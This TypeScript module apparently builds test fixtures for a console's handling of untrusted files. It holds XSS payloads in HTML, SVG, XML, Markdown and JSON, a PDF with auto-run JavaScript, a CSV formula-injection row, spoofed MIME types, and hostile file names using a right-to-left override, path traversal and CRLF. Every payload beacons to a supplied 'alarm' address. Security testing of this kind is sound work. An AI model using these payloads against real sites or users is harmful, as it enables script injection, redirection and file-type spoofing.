/** Objects and names of somebody who wants to run something on the console. Each tells an alarm, which is
 * an address of theirs, when it does, and goes there. */

/** Tells the alarm as soon as anything of it runs; without a script as soon as it is HTML. */
function script(alarm: string): string {
  return `<script>fetch("${alarm}/ran?"+origin);top.location="${alarm}/away"</script>` +
    `<img src="${alarm}/seen" onerror="top.location='${alarm}/away'">` +
    `<meta http-equiv="refresh" content="0;url=${alarm}/away"><iframe src="${alarm}/framed"></iframe>`;
}

/** One page, all of which is a link, and which goes elsewhere as it is opened. */
function pdf(alarm: string): string {
  return `%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${alarm}/ran"\\);)
/Next<</S/URI/URI(${alarm}/away)>>>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]
/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI(${alarm}/clicked)>>>>]>> endobj
trailer <</Root 1 0 R>>
%%EOF`;
}

/** By key: what it is, and what it says it is. */
export function hostileObjects(
  alarm: string,
): Readonly<Record<string, readonly [content: string, type: string]>> {
  const html = script(alarm);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="top.location='${alarm}/away'">` +
    `<script>fetch("${alarm}/ran");top.location="${alarm}/away"</script>` +
    `<image href="${alarm}/seen"/><rect width="9" height="9"/></svg>`;
  const xml = `<?xml-stylesheet type="text/xsl" href="sheet.xsl"?><a>${html}</a>`;
  const markdown = [
    `[link](javascript:location='${alarm}/away') [data](data:text/html,<script>a</script>)`,
    `![image](${alarm}/seen) <javascript:alert(1)> [x]: javascript:alert(1)`,
    `[out](https://out.example/a "onmouseover=alert(1)") **<b onclick=alert(1)>**`,
    html,
  ].join("\n\n");
  return {
    "page.html": [html, "text/html"],
    "page.xhtml": [html, "application/xhtml+xml"],
    "picture.svg": [svg, "image/svg+xml"],
    "document.pdf": [pdf(alarm), "application/pdf"],
    "data.xml": [xml, "application/xml"],
    "sheet.xsl": [html, "text/xsl"],
    "notes.md": [markdown, "text/markdown"],
    "rows.csv": [`name,"${html.replaceAll('"', '""')}"\n=cmd,@evil\n`, "text/csv"],
    "data.json": [JSON.stringify({ "__proto__": html, a: html }), "application/json"],
    "code.js": [`fetch("${alarm}/ran")`, "text/javascript"],
    // Those that lie.
    "page.pdf": [html, "application/pdf"],
    "page.png": [html, "image/png"],
    "page.txt": [html, "text/plain"],
    "page.mp3": [html, "audio/mpeg"],
    "page.mp4": [svg, "video/mp4"],
    "document.html": [pdf(alarm), "text/html"],
    "anything": [html, "application/octet-stream"],
    "type": [html, `text/html;a="><script>"`],
  };
}

/** Keys that would be markup, addresses or paths, or look like others. */
export function hostileNames(alarm: string): readonly string[] {
  return [
    "<img src=seen onerror=alert(1)>.txt",
    `"onmouseover="alert(1)" '.txt`,
    "javascript:alert(1)",
    "picture\u202egpj.html",
    "two\nlines\r.txt",
    `//${new URL(alarm).host}/away`,
    "../../api/v1/session",
    "x".repeat(1_020) + ".txt",
  ];
}
